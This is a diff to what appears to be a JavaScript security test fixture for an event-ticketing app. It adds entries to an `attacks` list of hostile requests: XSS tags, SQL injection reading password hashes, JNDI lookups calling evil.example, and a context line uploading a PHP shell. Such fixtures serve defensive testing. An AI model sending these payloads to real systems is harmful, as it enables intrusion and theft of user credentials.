@@ -12,6 +12,7 @@ const title = (text) => body("POST", "/api/v1/events", { organizerId: uuid, venu
 const order = (name, email = "iris@example.com") =>
     body("POST", "/api/v1/orders", { holdId: uuid, buyer: { name: "Íris Araújo", email }, attendees: [{ name }], payment: { method: "pix" } });
 const token = (fields) => ({ method: "POST", target: "/connect/token", headers: form, body: new URLSearchParams({ grant_type: "password", ...fields }).toString() });
+const posted = (target, fields) => ({ method: "POST", target, headers: form, body: new URLSearchParams(fields).toString() });
 const agent = (name) => get("/api/v1/events", { "user-agent": name });
 const seats = (name) => body("POST", `/api/v1/venues/${uuid}/seat-maps`, { name: "Teatro", sections: [{ name, rows: [{ name: "A", seats: [1, 2, 3] }] }] });
 const description = (text) => body("POST", "/api/v1/events", { organizerId: uuid, venueId: uuid, title: "Noite", category: "concert", description: text });
@@ -117,6 +118,20 @@ export const attacks = {
     "JSON of another kind": { method: "PATCH", target: "/api/v1/me", headers: { "content-type": "application/json-patch+json" }, body: '{"name":"x\' OR 1=1 --"}' },
     "JSON under no name": { method: "PATCH", target: "/api/v1/me", headers: {}, body: '{"name":"x\' OR 1=1 --"}' },
     "a form in a seat map's place": { method: "POST", target: `/api/v1/venues/${uuid}/seat-maps`, headers: form, body: "name=<script>alert(1)</script>" },
+    "a page in a picture's place": { method: "PUT", target: `/api/v1/events/${uuid}/picture`, headers: { "content-type": "text/html" }, body: "<script>alert(1)</script>" },
+    "JSON in a picture's place": { method: "PUT", target: `/api/v1/events/${uuid}/picture`, headers: json, body: '{"name":"x\' OR 1=1 --"}' },
+    "a form in a picture's place": { method: "PUT", target: `/organizar/${uuid}/eventos/${uuid}/imagem`, headers: form, body: "name=<script>alert(1)</script>" },
+    "a picture elsewhere": { method: "POST", target: "/api/v1/orders", headers: { "content-type": "image/jpeg" }, body: "x' OR 1=1 --" },
+    "a picture over every limit": { method: "PUT", target: `/api/v1/events/${uuid}/picture`, headers: { "content-type": "image/jpeg" }, body: "x".repeat(3 * 1024 * 1024) },
+    "scripts in a seat map's text": posted(`/organizar/${uuid}/locais/${uuid}/mapas/novo`, { text: "Plateia; A; <script>alert(1)</script>" }),
+    "SQL in a seat map's text": posted(`/organizar/${uuid}/locais/${uuid}/mapas/novo`, { text: "Plateia' or 1=1; A; 1" }),
+    "SQL in a seat map's text, in words alone": posted(`/organizar/${uuid}/locais/${uuid}/mapas/${uuid}`, { text: "A; union select password from users; 1" }),
+    "SQL in another field beside a seat map's text": posted(`/organizar/${uuid}/locais/${uuid}/mapas/novo`, { text: "A; A; 1", name: "x' OR 1=1 --" }),
+    "scripts in an event's title, at its page": posted(`/organizar/${uuid}/eventos/novo`, { title: "<script>alert(1)</script>", description: "Uma noite." }),
+    "SQL in a reason, at an order's page": posted(`/organizar/${uuid}/pedidos/${uuid}`, { reason: "x' UNION SELECT password_hash FROM users --" }),
+    "a lookup in a description, at its page": posted(`/organizar/${uuid}/eventos/novo`, { description: "${jndi:ldap://evil.example/x}" }),
+    "a lookup in evidence": body("POST", `/api/v1/orders/${uuid}/disputes/${uuid}/evidence`, { text: "${${lower:j}ndi:ldap://evil.example/x}" }),
+    "a description where none is": posted("/account/login", { email: "a@example.com", description: "x' UNION SELECT password_hash FROM users --" }),
     "a file": { method: "POST", target: "/api/v1/events", headers: { "content-type": "multipart/form-data; boundary=x" }, body: '--x\r\nContent-Disposition: form-data; name="f"; filename="shell.php"\r\n\r\n<?php system("id");\r\n--x--\r\n' },
     "JSON that is none": body("POST", "/api/v1/users", '{"name":"x\' OR 1=1 --"'),
     "JSON of a thousand values": body("POST", "/api/v1/holds", { items: Array.from({ length: 1500 }, (_, i) => i) }),
